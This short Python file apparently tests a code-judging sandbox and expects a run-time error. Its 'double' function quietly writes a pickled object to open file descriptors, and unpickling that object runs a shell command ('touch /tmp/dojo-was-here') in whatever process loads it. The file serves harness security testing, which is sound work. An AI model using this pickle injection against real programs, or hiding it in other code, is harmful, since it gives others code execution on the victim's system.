"""Writes a pickle to the channel, which runs code in whoever loads it."""
# verdicts: run_time_error

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/dojo-was-here",)


def double(x):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Payload()))
        except OSError:
            pass
    return x
